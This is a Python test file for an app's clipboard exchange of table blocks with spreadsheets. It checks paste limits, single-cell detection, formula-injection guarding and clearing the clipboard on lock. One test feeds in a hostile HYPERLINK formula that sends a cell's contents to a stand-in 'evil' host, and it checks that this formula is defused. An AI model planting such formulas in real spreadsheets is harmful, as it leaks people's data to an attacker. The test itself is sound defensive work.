"""Blocks from and to a spreadsheet: never larger than the list, never a formula, never left behind by the lock."""

from hypothesis import given
from hypothesis import strategies as st
from PySide6.QtGui import QGuiApplication

from app.ui.clipboard import BLOCK, Block, block_in, forget_numbers, guarded, put_block, take_block

CELLS = st.text(st.characters(blacklist_categories=("Cs", "Cc", "Zs", "Zl", "Zp")), max_size=8)


def test_a_column_of_a_million_cells_is_cut_to_the_list_and_the_rest_is_a_figure():
    block = block_in("√\r\n" * 1_048_576, 60, 30)

    assert block == Block((("√",),) * 60, 1_048_576 - 60)


def test_what_lies_right_of_the_list_is_counted_too():
    assert block_in("1\t2\t3\n4\t5\n", 5, 2) == Block((("1", "2"), ("4", "5")), 1)


def test_a_single_cell_is_known_as_one():
    assert [block_in(text, 5, 5).single for text in ("√\r\n", "√\t√", "", "1\n2")] == ["√", None, None, None]
    assert block_in("1\n2", 1, 5).single is None


def test_a_formula_of_a_strangers_roster_is_copied_as_words(qapp):
    put_block([["罗正祥", '=HYPERLINK("http://evil/?"&B2,"点开")', "@SUM(1)", "+86 138", "-12.5", "-", "两\n行"]])

    text = QGuiApplication.clipboard().text()
    assert text.split("\t")[1:] == [
        '\'=HYPERLINK("http://evil/?"&B2,"点开")', "'@SUM(1)", "'+86 138", "-12.5", "-", "两 行",
    ]  # fmt: skip


@given(st.lists(st.lists(CELLS, min_size=1, max_size=4), min_size=1, max_size=4))
def test_what_was_copied_comes_back_as_it_was_and_no_cell_begins_a_formula(lines):
    wide = [(*line, "ende") for line in lines]
    text = "\n".join("\t".join(guarded(cell) for cell in line) for line in wide)

    back = block_in(text, 10, 10)

    assert back.cells == tuple(tuple(line) for line in wide)
    assert not [cell for line in text.split("\n") for cell in line.split("\t") if cell.startswith(("=1", "=A", "@A"))]


def test_names_copied_from_a_list_do_not_stay_after_the_lock(qapp, monkeypatch):
    clipboard = QGuiApplication.clipboard()
    # Without a screen nobody is said to own the clipboard.
    monkeypatch.setattr(type(clipboard), "ownsClipboard", lambda _: True)
    put_block([["罗正祥", "大寨村"]])
    copied = (clipboard.mimeData().hasFormat(BLOCK), take_block(1, 2).cells)

    forget_numbers()

    assert copied == (True, (("罗正祥", "大寨村"),))
    assert clipboard.text() == ""
